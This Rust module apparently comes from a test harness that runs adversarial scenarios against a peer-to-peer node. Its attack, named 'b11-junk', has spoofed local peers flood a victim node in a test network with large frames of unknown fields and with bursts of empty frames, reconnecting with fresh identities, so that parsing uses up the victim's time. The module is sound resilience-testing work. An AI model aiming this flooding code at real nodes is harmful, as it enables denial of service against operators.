//! Attack 11: frames without content, which cost the victim the time to parse them.

use std::net::Ipv4Addr;
use std::time::Duration;

use futures::FutureExt as _;

use super::{Attack, Price, nothing};
use crate::node::Target;
use crate::peer::Peer;
use crate::{HostileError, StageOptions, Tasks, TestNetwork, rpc};

/// Number of peers that send unknown fields, and of peers that send empty frames.
const ATTACKERS: u8 = 2;
/// Size of a frame of unknown fields, bytes.
const FRAME_BYTES: usize = 180_000;
/// Frames of unknown fields that are sent together every [`INTERVAL`]: 14.4 MB/s for each peer.
const FRAMES: usize = 4;
/// Empty frames that are sent together every [`INTERVAL`].
const EMPTY_FRAMES: usize = 100_000;
const INTERVAL: Duration = Duration::from_millis(50);
/// Maximum writes of each peer, enough for ten minutes.
const WRITES_MAX: u32 = 12_000;
/// Duration of the attack before messages are counted.
const RISING: Duration = Duration::from_secs(3);

/// Attack b11: junk frames.
pub const ATTACK: Attack = Attack {
    name: "b11-junk",
    about: "frames of 180 kB of unknown fields and empty frames at full rate, new identities all the time",
    price: Price::Addresses(2 * ATTACKERS as u32),
    options: StageOptions::default,
    start: |stage| start(stage).boxed(),
    then: nothing,
};

async fn start(stage: &mut TestNetwork) -> Result<Tasks, HostileError> {
    let unknown: Vec<u8> = unknown_fields().repeat(FRAMES);
    let empty = vec![0; EMPTY_FRAMES];
    let mut tasks = Tasks::default();
    for n in 0..ATTACKERS {
        for (kind, bytes) in [&unknown, &empty].into_iter().enumerate() {
            let from = Ipv4Addr::new(127, 0, 14, 1 + 2 * n + u8::from(kind == 1));
            tasks.spawn(send(from, stage.victim.target(), bytes.clone()));
        }
    }
    tokio::time::sleep(RISING).await;
    Ok(tasks)
}

/// Returns a frame that consists of unknown fields of two bytes each.
#[must_use]
pub fn unknown_fields() -> Vec<u8> {
    // Field number 15 with a varint.
    rpc::framed(&[0x78, 0x00].repeat(FRAME_BYTES / 2))
}

async fn send(from: Ipv4Addr, target: Target, bytes: Vec<u8>) {
    let mut ticks = tokio::time::interval(INTERVAL);
    ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
    let mut peer: Option<Peer> = None;
    for _ in 0..WRITES_MAX {
        ticks.tick().await;
        if peer.is_none() {
            peer = Peer::connect(from, target).await.ok();
        }
        if let Some(connected) = &mut peer
            && !connected.send(&bytes).await
        {
            peer = None;
        }
    }
}
